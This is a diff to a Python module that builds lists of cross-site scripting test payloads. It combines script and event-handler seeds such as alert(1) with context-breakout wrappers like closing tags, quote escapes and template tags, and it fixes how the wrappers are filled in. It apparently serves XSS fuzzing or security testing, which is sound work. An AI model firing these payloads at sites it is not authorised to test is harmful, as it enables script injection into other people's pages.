@@ -5,7 +5,7 @@ import itertools
 from collections.abc import Iterator
 
 RUN = "window.pwned=1"
-SHELLS = ["{0}", "\"'>{0}", "</p></div></li></td>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}", "]]>{0}", "{{% endblock %}}{0}",
+SHELLS = ["{0}", "\"'>{0}", "</p></div></li></td>{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "-->{0}", "]]>{0}", "{% endblock %}{0}",
           "'};{0}//", "\\\"{0}", "&quot;>{0}", "</option></select>{0}", "</template>{0}", "</noscript>{0}"]  # fmt: skip
 SEEDS = [
     "<script>alert(1)</script>",
@@ -38,5 +38,5 @@ BARE = ['" onfocus=alert(1) autofocus data-pwned="', "' onmouseover=alert(1) dat
 
 def payloads(many: int) -> list[str]:
     """So many different ones, the plainest first."""
-    every: Iterator[str] = itertools.chain(SEEDS, BARE, (shell.format(seed) for shell in SHELLS[1:] for seed in SEEDS))
+    every: Iterator[str] = itertools.chain(SEEDS, BARE, (shell.replace("{0}", seed) for shell in SHELLS[1:] for seed in SEEDS))
     return list(itertools.islice(dict.fromkeys(every), many))
